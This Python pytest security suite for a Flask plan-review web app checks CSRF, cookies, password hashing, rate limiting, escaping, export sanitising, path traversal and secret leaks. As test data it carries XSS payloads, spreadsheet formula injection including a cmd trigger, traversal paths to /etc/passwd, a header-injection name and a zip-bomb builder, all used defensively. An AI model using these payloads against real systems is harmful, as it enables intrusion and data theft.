"""Security: sign-in and CSRF on every write route, headers, cookies, escaping, sanitising, exports, paths, secrets.

Routes are enumerated from the app's url_map, so a route added later is covered (or fails here until it is).
Hostile text lives in the plan itself (markup, formula triggers), so every page, API and export meets it.
"""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from kb_helpers import data_dir_over

REPO = Path(__file__).resolve().parent.parent
MINI = REPO / "tests" / "fixtures" / "plans" / "review-mini.txt"
SLUG = "review-mini"
PASSWORD = "security-pass-42"
SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example","点击")'
# Sign-in and sign-out are the only writes open to anonymous users (they still need the CSRF token).
PUBLIC_WRITES = {"auth.login", "auth.api_login", "auth.logout", "auth.logout_api"}
WRITE_METHODS = {"POST", "PUT", "PATCH", "DELETE"}


def hostile_plan() -> str:
    """The review plan with markup and spreadsheet formulas pasted into its measures."""
    text = MINI.read_text(encoding="utf-8")
    swaps = [
        ("1.完善儿童健康服务体系。", f"1.{FORMULA}完善儿童健康服务体系。"),
        ("2.有效控制儿童近视。", f"2.有效控制儿童近视{SCRIPT}。{IMG}"),
        ("1.推进学前教育普及普惠发展。", "1.@SUM(1+1)推进学前教育普及普惠发展。"),
        ("2.巩固义务教育均衡发展成果", "2.+cmd|' /C calc'!A0巩固义务教育均衡发展成果"),
    ]
    for old, new in swaps:
        assert old in text, old
        text = text.replace(old, new)
    return text


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One build (KB + index) of the hostile plan, shared read-only by this module's tests (from kb_cache)."""
    from kb_cache import cached_build

    data = tmp_path_factory.mktemp("hostile") / "data"
    shutil.copytree(cached_build(SLUG, hostile_plan()), data, symlinks=True)
    return data


@pytest.fixture
def data(hostile_build: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A fresh data dir (own users, reviews, secret key) serving the hostile build."""
    return data_dir_over(hostile_build, tmp_path, monkeypatch)


@pytest.fixture
def app_data(data: Path) -> Path:
    """The app serves the hostile build."""
    return data


def token_of(client) -> str:
    return client.get("/api/session").get_json()["csrf_token"]


def signed_in(app, name: str = "reviewer1"):
    from kb.store.users import add_user, get_user

    if get_user(name) is None:
        add_user(name, PASSWORD)
    c = app.test_client()
    resp = c.post("/api/login", json={"name": name, "password": PASSWORD}, headers={"X-CSRF-Token": token_of(c)})
    assert resp.status_code == 200
    return c


def durable_counts() -> dict[str, int]:
    """Rows in every durable table users' actions write to (users and sign-in failures aside)."""
    from kb.store.durable import durable_connection

    conn = durable_connection()
    try:
        return {
            t: conn.execute(f"SELECT count(*) FROM {t}").fetchone()[0]
            for t in ("reviews", "audit", "observations", "observation_log")
        }
    finally:
        conn.close()


def ids() -> dict[str, str]:
    """Real values for every URL argument the app's routes take."""
    from kb.store import KB

    with KB() as kb:
        items = kb.items()
    measure = next(i for i in items if SCRIPT in i["text"])
    ind = next(ind for i in items for ind in i["indicators"])
    return {
        "item_id": measure["id"],
        "name": "市卫健委",
        "plan_id": SLUG,
        "ind_id": ind["id"],
        "code": "health",
        "audit_id": "1",
        "fmt": "csv",
        "filename": "app.css",
        "token": "no-such-upload-token-0000",
        "action": "disable",  # /admin/users/<name>/<action>
        "aid": "1",  # a progress attachment
        "rid": "1",  # a progress report
    }


def url_for_rule(rule, values: dict[str, str]) -> str:
    """The rule's path with each argument filled; a new argument name fails loudly so it gets a value here."""
    missing = set(rule.arguments) - set(values)
    assert not missing, f"route {rule.rule} takes {missing}: add a value to ids() so it is tested"
    path = rule.rule
    for arg in rule.arguments:
        path = re.sub(rf"<(?:[^:<>]+:)?{arg}>", values[arg], path)
    return path


def write_routes(app) -> list[tuple[str, str, str]]:
    """(endpoint, method, rule) of every write route, from the url_map."""
    out = []
    for rule in app.url_map.iter_rules():
        for method in sorted((rule.methods or set()) & WRITE_METHODS):
            out.append((rule.endpoint, method, rule))
    return sorted(out, key=lambda r: (r[0], r[1]))


def get_routes(app) -> list:
    return sorted((r for r in app.url_map.iter_rules() if "GET" in (r.methods or set())), key=lambda r: r.rule)


FIELDS = {
    "action": "note.add",
    "body": "匿名写入",
    "department": "市卫健委",
    "role": "lead",
    "year": "2021",
    "value": "95",
    "reason": "x",
    "name": "nobody",
    "password": "wrong-password",
}


def _post(client, method: str, path: str, token: str | None, as_json: bool):
    headers = {"X-CSRF-Token": token} if (token and as_json) else {}
    if as_json:
        return client.open(path, method=method, json=FIELDS, headers=headers)
    form = dict(FIELDS, file=(io.BytesIO(b"PK\x03\x04 not really xlsx"), "x.xlsx"))
    if token:
        form["csrf_token"] = token
    return client.open(path, method=method, data=form, content_type="multipart/form-data")


# -- writes need a signed-in reviewer ---------------------------------------------------------------
def test_write_routes_are_enumerated(app):
    routes = write_routes(app)
    endpoints = {e for e, _m, _r in routes}
    assert {"review.review_item", "review.review_item_api", "review.undo", "review.undo_api"} <= endpoints
    assert len(routes) >= 10 and endpoints >= PUBLIC_WRITES


@pytest.mark.parametrize("as_json", [False, True], ids=["form", "json"])
def test_every_write_route_refuses_anonymous_users(app, as_json):
    values, refused = ids(), []
    client = app.test_client()
    token = token_of(client)
    before = durable_counts()
    for endpoint, method, rule in write_routes(app):
        if endpoint in PUBLIC_WRITES:
            continue
        path = url_for_rule(rule, values)
        resp = _post(client, method, path, token, as_json)
        ok = resp.status_code == 401 or (resp.status_code == 302 and "/login" in resp.headers.get("Location", ""))
        assert ok, f"{method} {path} answered {resp.status_code} to an anonymous user"
        if path.startswith("/api/"):
            assert resp.get_json()["ok"] is False
        refused.append(path)
    assert len(refused) >= 8 and durable_counts() == before


@pytest.mark.parametrize("token", ["missing", "forged", "other-session"])
@pytest.mark.parametrize("as_json", [False, True], ids=["form", "json"])
def test_every_write_route_needs_the_sessions_csrf_token(app, token, as_json):
    values = ids()
    reviewer = signed_in(app)
    other = token_of(app.test_client())  # a valid token, but of another browser's session
    sent = {"missing": None, "forged": "forged-token", "other-session": other}[token]
    before = durable_counts()
    for _endpoint, method, rule in write_routes(app):
        path = url_for_rule(rule, values)
        resp = _post(reviewer, method, path, sent, as_json)
        assert resp.status_code == 400, f"{method} {path} with {token} CSRF token answered {resp.status_code}"
        body = resp.get_data(as_text=True)
        assert "CSRF" in body
    assert durable_counts() == before
    assert reviewer.get("/api/session").get_json()["user"]["name"] == "reviewer1"  # logout refused too


def test_a_signed_in_write_with_the_token_works(app):
    reviewer = signed_in(app)
    item = ids()["item_id"]
    resp = reviewer.post(
        f"/api/items/{item}/review",
        json={"action": "note.add", "body": "核实"},
        headers={"X-CSRF-Token": token_of(reviewer)},
    )
    assert resp.status_code == 200 and durable_counts()["audit"] == 1


def _forms(html: str) -> list[str]:
    return re.findall(r"<form\b[^>]*>.*?</form>", html, flags=re.S | re.I)


def test_every_form_carries_the_csrf_token(app):
    values = ids()
    reviewer = signed_in(app)
    token = token_of(reviewer)
    posted, pages = 0, 0
    for client in (app.test_client(), reviewer):
        for rule in get_routes(app):
            if rule.endpoint == "static" or rule.rule.startswith("/api/") or "fmt" in rule.arguments:
                continue
            resp = client.get(url_for_rule(rule, values))
            if resp.mimetype != "text/html":
                continue
            pages += 1
            for form in _forms(resp.get_data(as_text=True)):
                if re.search(r'method="?post', form, flags=re.I):
                    posted += 1
                    m = re.search(r'name="csrf_token" value="([^"]+)"', form)
                    assert m, f"form without CSRF token on {rule.rule}: {form[:200]}"
                    if client is reviewer:
                        assert m.group(1) == token
    assert pages >= 12 and posted >= 8  # login, logout, review actions, value entry, import …


def test_sign_in_starts_a_new_session_token(app):
    from kb.store.users import add_user

    add_user("reviewer1", PASSWORD)
    c = app.test_client()
    before = token_of(c)
    resp = c.post("/api/login", json={"name": "reviewer1", "password": PASSWORD}, headers={"X-CSRF-Token": before})
    assert resp.status_code == 200 and resp.get_json()["csrf_token"] != before  # no session fixation


def test_oversized_post_is_refused_cleanly(app):
    c = app.test_client()
    resp = c.post("/api/login", data=b"x" * (2 << 20), content_type="application/octet-stream")
    assert resp.status_code in (400, 413)


# -- cookies, passwords, sign-in throttling ---------------------------------------------------------
@pytest.mark.parametrize("via", ["form", "api"])
def test_session_cookie_is_httponly_and_samesite(app, via):
    from kb.store.users import add_user

    add_user("reviewer1", PASSWORD)
    c = app.test_client()
    if via == "api":
        resp = c.post(
            "/api/login", json={"name": "reviewer1", "password": PASSWORD}, headers={"X-CSRF-Token": token_of(c)}
        )
    else:
        token = re.search(r'name="csrf_token" value="([^"]+)"', c.get("/login").get_data(as_text=True)).group(1)
        resp = c.post("/login", data={"name": "reviewer1", "password": PASSWORD, "csrf_token": token})
    cookies = resp.headers.getlist("Set-Cookie")
    assert cookies and all("HttpOnly" in ck and re.search(r"SameSite=(Lax|Strict)", ck) for ck in cookies)


def test_passwords_are_salted_argon2id(data):
    from argon2 import PasswordHasher

    from kb.store.durable import durable_connection
    from kb.store.users import add_user

    add_user("a1", PASSWORD)
    add_user("a2", PASSWORD)
    conn = durable_connection()
    hashes = [r[0] for r in conn.execute("SELECT password_hash FROM users ORDER BY name")]
    conn.close()
    assert all(h.startswith("$argon2id$") and PASSWORD not in h for h in hashes)
    assert hashes[0] != hashes[1] and PasswordHasher().verify(hashes[0], PASSWORD)


def test_servers_hash_at_the_librarys_recommended_cost(monkeypatch):
    """The suite hashes cheaply (KB_ARGON2_COST=test, set by conftest); a server without it does not."""
    from argon2 import PasswordHasher

    from kb.store import users

    monkeypatch.delenv("KB_ARGON2_COST")
    users._hasher.cache_clear()
    try:
        h, lib = users._hasher(), PasswordHasher()
        assert (h.time_cost, h.memory_cost, h.parallelism) == (lib.time_cost, lib.memory_cost, lib.parallelism)
        assert lib.memory_cost >= 65536
    finally:
        users._hasher.cache_clear()


def test_sign_in_is_rate_limited_per_address_across_names(app):
    """A spraying address waits on the names it tried, not on a colleague behind the same proxy."""
    from kb.store.users import MAX_FAILURES_IP, add_user

    add_user("reviewer1", PASSWORD)
    c = app.test_client()
    c.environ_base["REMOTE_ADDR"] = "203.0.113.9"
    token = token_of(c)
    for n in range(MAX_FAILURES_IP):  # a password-spraying client: a new name each time
        resp = c.post("/api/login", json={"name": f"guess{n}", "password": "123456"}, headers={"X-CSRF-Token": token})
        assert resp.status_code == 401
    resp = c.post("/api/login", json={"name": "guess0", "password": "654321"}, headers={"X-CSRF-Token": token})
    assert resp.status_code == 429 and resp.get_json()["ok"] is False and int(resp.headers["Retry-After"]) > 0
    resp = c.post("/api/login", json={"name": "nobody-new", "password": "x"}, headers={"X-CSRF-Token": token})
    assert resp.status_code == 429  # an unknown name from a spraying address waits too
    colleague = app.test_client()  # same (proxy) address, an account it never failed on: not blocked
    colleague.environ_base["REMOTE_ADDR"] = "203.0.113.9"
    resp = colleague.post(
        "/api/login", json={"name": "reviewer1", "password": PASSWORD}, headers={"X-CSRF-Token": token_of(colleague)}
    )
    assert resp.status_code == 200


# -- headers and markup on every page ---------------------------------------------------------------
def _csp(value: str) -> dict[str, str]:
    return {p.split()[0]: p for p in (x.strip() for x in value.split(";")) if p}


def test_security_headers_and_no_inline_script_on_every_page(app):
    values = ids()
    reviewer = signed_in(app)
    checked = 0
    for client in (app.test_client(), reviewer):
        for rule in get_routes(app):
            path = url_for_rule(rule, values)
            resp = client.get(path)
            assert resp.status_code < 500, path
            h = resp.headers
            csp = _csp(h.get("Content-Security-Policy", ""))
            assert "'unsafe-inline'" not in csp.get("script-src", "x") and "script-src" in csp, path
            assert csp.get("frame-ancestors") == "frame-ancestors 'none'", path
            assert csp.get("object-src") == "object-src 'none'", path
            assert h.get("X-Content-Type-Options") == "nosniff" and h.get("X-Frame-Options") == "DENY", path
            if resp.mimetype == "text/html":
                html = resp.get_data(as_text=True)
                for tag in re.findall(r"<script\b[^>]*>", html, flags=re.I):
                    assert "src=" in tag, f"inline script on {path}: {tag}"
                assert not re.search(r"<[a-z][^>]*\son[a-z]+\s*=", html, flags=re.I), f"event handler on {path}"
                assert not re.search(r"""href\s*=\s*["']?\s*javascript:""", html, flags=re.I), path
                assert SCRIPT not in html and IMG not in html, f"plan markup rendered live on {path}"
            resp.close()  # static files are streamed from an open file
            checked += 1
    assert checked >= 60
    resp = app.test_client().get("/no/such/page")
    assert resp.status_code == 404 and "Content-Security-Policy" in resp.headers


def test_search_highlights_escape_the_plans_markup(app):
    c = app.test_client()
    body = c.get("/api/search", query_string={"q": "儿童近视 眼保健"}).get_json()
    hit = next(r for r in body["results"] if r["id"] == ids()["item_id"])
    assert "&lt;img src=x" in hit["snippet"] and "<img" not in hit["snippet"] and "<mark>" in hit["snippet"]
    assert "<" not in re.sub(r"</?mark>", "", hit["snippet"])
    html = c.get("/search", query_string={"q": "儿童近视 眼保健"}).get_data(as_text=True)
    assert "&lt;img src=x onerror=alert(1)&gt;" in html and IMG not in html and SCRIPT not in html
    html = c.get("/search", query_string={"q": SCRIPT}).get_data(as_text=True)  # the query echoed back
    assert SCRIPT not in html


def test_item_page_shows_markup_as_text(app):
    item = ids()["item_id"]
    html = app.test_client().get(f"/items/{item}").get_data(as_text=True)
    assert "&lt;script&gt;" in html and SCRIPT not in html and IMG not in html


# -- Markdown notes ---------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "md,absent,present",
    [
        (SCRIPT, ["<script"], []),
        ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", ["<script"], []),
        ("[点我](javascript:alert(1))", ["javascript:"], ["点我"]),
        ('<a href="JaVaScRiPt:alert(1)">x</a>', ["javascript:"], ["x"]),
        ('<a href="&#106;avascript:alert(1)">x</a>', ["avascript:", "&#106;"], []),
        ("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", ["data:"], []),
        ("[x](vbscript:msgbox(1))", ["vbscript:"], []),
        (IMG, ["onerror"], []),
        ('<div onclick="alert(1)">点</div>', ["onclick"], ["点"]),
        ("<svg onload=alert(1)><circle/></svg>", ["onload", "<svg"], []),
        ('<iframe src="https://evil.example"></iframe>', ["<iframe"], []),
        ("<style>body{display:none}</style>", ["<style"], []),
        ('<form action="https://evil.example"><input name=p></form>', ["<form", "<input"], []),
        ('<a href="https://example.org" target="_blank">链接</a>', [], ['href="https://example.org"', "noopener"]),
        ("**重点** 与 `代码`", [], ["<strong>重点</strong>", "<code>代码</code>"]),
        ("| a | b |\n|---|---|\n| 1 | 2 |", [], ["<table>"]),
    ],
)
def test_markdown_notes_are_sanitised(md, absent, present):
    from kb.reviews import render_note

    html = render_note(md)
    low = html.lower()
    for bad in absent:
        assert bad.lower() not in low, html
    for good in present:
        assert good in html, html
    assert not re.search(r"\son[a-z]+\s*=", low)


def test_hostile_note_is_inert_on_the_item_page(app):
    reviewer = signed_in(app)
    item = ids()["item_id"]
    note = f'{SCRIPT}\n\n[点我](javascript:alert(1)) <b onmouseover="alert(1)">粗</b>'
    resp = reviewer.post(
        f"/api/items/{item}/review",
        json={"action": "note.add", "body": note},
        headers={"X-CSRF-Token": token_of(reviewer)},
    )
    assert resp.status_code == 200
    for client in (reviewer, app.test_client()):
        html = client.get(f"/items/{item}").get_data(as_text=True)
        assert "点我" in html and "粗" in html
        assert SCRIPT not in html and "javascript:" not in html and "onmouseover" not in html


# -- exports ----------------------------------------------------------------------------------------
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    "path", ["/download/plan.csv", "/download/department/市卫健委.csv", "/download/indicators.csv"]
)
def test_csv_exports_neutralise_formulas(app, path):
    resp = app.test_client().get(path)
    assert resp.status_code == 200
    rows = list(csv.reader(io.StringIO(resp.get_data().decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(TRIGGERS)]
    if path == "/download/plan.csv":
        assert any(c.startswith("'=HYPERLINK(") for c in cells) and any(c.startswith("'@SUM") for c in cells)


def test_xlsx_export_holds_formulas_as_quoted_text(app):
    from openpyxl import load_workbook

    resp = app.test_client().get("/download/plan.xlsx", query_string={"per_dept_sheets": "1"})
    assert resp.status_code == 200
    wb = load_workbook(io.BytesIO(resp.get_data()))
    risky = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(TRIGGERS):
                    risky += 1
                    assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
    assert risky >= 2


def _formula_cells(data: bytes) -> list[tuple[str, str, object]]:
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(data))
    return [
        (ws.title, c.coordinate, c.value)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]


@pytest.mark.parametrize(
    "path", ["/monitoring/template.xlsx", "/monitoring/report.xlsx", "/download/plan.xlsx", "/download/indicators.xlsx"]
)
def test_every_workbook_holds_text_as_text(app, path):
    """A reviewer's 数据来源 (=HYPERLINK…) and the plan's own formula-like text are never live formulas."""
    reviewer = signed_in(app)
    ind = ids()["ind_id"]
    resp = reviewer.post(
        f"/api/indicators/{ind}/observations",
        json={"year": 2022, "value": 1, "source": FORMULA},
        headers={"X-CSRF-Token": token_of(reviewer)},
    )
    assert resp.status_code in (200, 422), resp.get_data(as_text=True)
    resp = app.test_client().get(path)
    if resp.status_code == 404:
        pytest.skip(f"{path} is not served")
    assert resp.status_code == 200
    assert _formula_cells(resp.get_data()) == []


def test_the_template_keeps_a_formula_source_as_its_text(app):
    from openpyxl import load_workbook

    reviewer = signed_in(app)
    ind = ids()["ind_id"]
    resp = reviewer.post(
        f"/api/indicators/{ind}/observations",
        json={"year": 2022, "value": 1, "source": FORMULA},
        headers={"X-CSRF-Token": token_of(reviewer)},
    )
    if resp.status_code != 200:
        pytest.skip("indicator takes no value for 2022")
    wb = load_workbook(io.BytesIO(app.test_client().get("/monitoring/template.xlsx").get_data()))
    texts = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert FORMULA in texts


def _zip_bomb(size: int) -> bytes:
    """A valid-looking xlsx whose sheet expands to `size` bytes (the report's 979 kB → 1.4 GB file, smaller)."""
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
        with zf.open("xl/worksheets/sheet1.xml", "w") as fh:
            fh.write(b"<worksheet><sheetData>")
            chunk = row * 20_000
            for _ in range(size // len(chunk) + 1):
                fh.write(chunk)
            fh.write(b"</sheetData></worksheet>")
    return buf.getvalue()


def test_a_zip_bomb_is_refused_before_parsing(app):
    from kb.exports.safety import MAX_XLSX_UNCOMPRESSED, WorkbookRefused, check_xlsx

    bomb = _zip_bomb(MAX_XLSX_UNCOMPRESSED + (4 << 20))
    assert len(bomb) < 1 << 20  # fits under the upload cap, as the report's did
    with pytest.raises(WorkbookRefused, match="解压后过大"):
        check_xlsx(bomb)
    reviewer = signed_in(app)
    resp = reviewer.post(
        "/api/monitoring/import",
        data={"file": (io.BytesIO(bomb), "bomb.xlsx")},
        headers={"X-CSRF-Token": token_of(reviewer)},
        content_type="multipart/form-data",
    )
    assert resp.status_code in (400, 422) and "解压后过大" in resp.get_data(as_text=True)


@pytest.mark.parametrize("raw", [b"", b"PK\x03\x04broken", b"not a zip at all"])
def test_damaged_uploads_are_refused_with_a_reason(raw):
    from kb.exports.safety import WorkbookRefused, open_xlsx

    with pytest.raises(WorkbookRefused):
        open_xlsx(raw)


# -- paths ------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "path",
    [
        "/static/../kb/users.py",
        "/static/..%2f..%2fsetup.cfg",
        "/static/%2e%2e/%2e%2e/README.md",
        "/static/vendor/../../../kb/durable.py",
        "/download/department/..%2f..%2fsecret_key.csv",
        "/download/department/../../reviews.sqlite.csv",
        "/download/plan.../../secret_key",
        "/download/plan.%2e%2e%2fcsv",
        "/monitoring/report.../../secret_key",
        "/download/department/%00.csv",
        "/items/..%2f..%2fsecret_key",
        "/api/items/../../../etc/passwd",
        "/plans/..%2f..%2freviews.sqlite",
    ],
)
def test_paths_cannot_reach_files_outside_the_app(app, data, path):
    app.test_client().get("/")  # makes sure the secret key file exists
    secret = (data / "secret_key").read_bytes()
    resp = app.test_client().get(path)
    body = resp.get_data()
    resp.close()
    assert resp.status_code < 500
    assert secret not in body and b"SQLite format 3" not in body and b"root:x:0:0" not in body
    assert b"argon2" not in body and b"def durable_connection" not in body and b"[metadata]" not in body


@pytest.mark.parametrize("name", ["../../etc/passwd", "..\\..\\boot.ini", "a/b", "市卫健委\r\nSet-Cookie: x=1"])
def test_download_names_cannot_carry_paths_or_headers(app, name):
    from kb.exports.safety import content_disposition, safe_filename

    fn = safe_filename(name, "csv")
    assert "/" not in fn and "\\" not in fn and not fn.startswith(".") and "\n" not in fn
    header = content_disposition(fn)
    assert "\r" not in header and "\n" not in header and "/" not in header.split("filename*=")[0]
    resp = app.test_client().get(f"/download/department/{name}.csv")
    assert resp.status_code < 500 and "Set-Cookie: x" not in str(resp.headers)


# -- secrets ----------------------------------------------------------------------------------------
def test_secret_key_made_on_first_run_in_the_data_folder(data):
    from webapp import create_app

    assert not (data / "secret_key").exists()
    key = create_app().secret_key
    f = data / "secret_key"
    assert f.read_bytes() == key and len(key) >= 32 and (f.stat().st_mode & 0o777) == 0o600
    assert create_app().secret_key == key  # reused, so sessions survive a restart


def test_no_secrets_in_the_repository():
    files = subprocess.run(
        ["git", "ls-files", "--cached", "--others", "--exclude-standard"],
        cwd=REPO,
        capture_output=True,
        text=True,
        check=True,
    ).stdout.split()
    assert files
    bad_names = [f for f in files if re.search(r"(^|/)(secret_key|\.env|id_rsa|id_ed25519)$|\.(sqlite|db|pem|key)$", f)]
    assert bad_names == []
    pattern = re.compile(
        rb"-----BEGIN [A-Z ]*PRIVATE KEY-----|\$argon2id\$v=\d+\$m=\d+[^\"'\s]{40,}|"
        rb"(?:SECRET_KEY|secret_key)\s*=\s*[\"'][^\"']{16,}[\"']"
    )
    leaks = []
    for f in files:
        p = REPO / f
        if f.startswith("tests/") or not p.is_file() or p.stat().st_size > 2_000_000:
            continue  # tests use throwaway keys on purpose
        if pattern.search(p.read_bytes()):
            leaks.append(f)
    assert leaks == []
    ignored = (REPO / ".gitignore").read_text()
    assert "/data/" in ignored and ".venv" in ignored
    assert os.path.relpath(REPO / "data" / "secret_key", REPO).startswith("data/")
